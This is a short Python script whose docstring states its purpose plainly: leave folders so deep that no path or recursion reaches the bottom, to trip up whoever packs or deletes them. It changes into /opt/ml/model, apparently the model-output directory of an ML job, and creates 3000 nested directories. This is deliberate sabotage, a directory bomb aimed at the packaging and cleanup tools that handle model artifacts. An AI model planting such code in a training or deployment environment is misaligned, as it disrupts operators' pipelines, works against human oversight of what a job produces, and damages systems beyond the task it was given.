"""Leaves folders so deep that neither a path nor a recursion reaches the bottom, for whoever packs and deletes them."""

import os

os.chdir("/opt/ml/model")
for _ in range(3000):
    os.mkdir("d")  # noqa: PTH102  its path is too long
    os.chdir("d")
